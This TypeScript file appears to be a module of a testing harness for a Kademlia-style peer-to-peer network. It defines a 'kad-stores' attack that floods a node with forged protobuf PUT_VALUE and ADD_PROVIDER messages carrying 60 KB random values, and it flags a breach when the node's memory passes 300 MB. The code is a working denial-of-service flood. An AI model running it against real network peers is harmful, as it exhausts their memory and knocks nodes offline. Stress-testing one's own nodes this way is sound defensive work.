import { randomBytes } from 'node:crypto';
import { multiaddr } from '@multiformats/multiaddr';
import type { Attack } from '../attack.ts';
import { startFlood } from '../flood.ts';
import { startStranger } from '../stranger.ts';

const PROTOCOL = '/crabnet/kad/1.0.0';
const VALUE_BYTES = 60_000;
const PUT_VALUE = 0;
const ADD_PROVIDER = 2;
const MEMORY_MAX_MB = 300;

function varint(value: number): Buffer {
  const bytes: number[] = [];
  let rest = value;
  for (; rest >= 0x80; rest >>>= 7) bytes.push((rest & 0x7f) | 0x80);
  return Buffer.from([...bytes, rest]);
}

/** A field of a protocol buffer: a number, or bytes. */
const numberField = (field: number, value: number): Buffer =>
  Buffer.concat([varint(field << 3), varint(value)]);
const bytesField = (field: number, value: Uint8Array): Buffer =>
  Buffer.concat([varint((field << 3) | 2), varint(value.length), value]);

function message(number: number, peer: Uint8Array): Buffer {
  const key = randomBytes(32);
  const isValue = number % 2 === 0;
  const body = isValue
    ? bytesField(3, Buffer.concat([bytesField(1, key), bytesField(2, randomBytes(VALUE_BYTES))]))
    : bytesField(9, Buffer.concat([bytesField(1, peer), numberField(3, 1)]));
  const whole = Buffer.concat([numberField(1, isValue ? PUT_VALUE : ADD_PROVIDER), bytesField(2, key), body]);
  return Buffer.concat([varint(whole.length), whole]);
}

/** What a table of peers is asked to keep for others. */
export const kadStores: Attack = {
  name: 'kad-stores',
  tries: 'values and providers put into the table of peers fill the memory',
  network: 'dht',
  async begin({ multiaddr: address, memoryMb }) {
    const { host, keys } = await startStranger();
    const peer = host.peerId.toMultihash().bytes;
    const connection = await host.dial(multiaddr(address));
    const flood = startFlood(400, async (number) => {
      const stream = await connection.newStream(PROTOCOL, { signal: AbortSignal.timeout(2000) });
      stream.send(message(number, peer));
      await stream.close({ signal: AbortSignal.timeout(2000) });
    });
    return {
      sent: () => flood.count,
      breach() {
        const memory = memoryMb();
        return memory > MEMORY_MAX_MB
          ? `${keys.nodeId} fills the memory: ${memory.toFixed(0)} MB`
          : undefined;
      },
      async end() {
        await flood.end();
        await host.stop();
      },
    };
  },
};
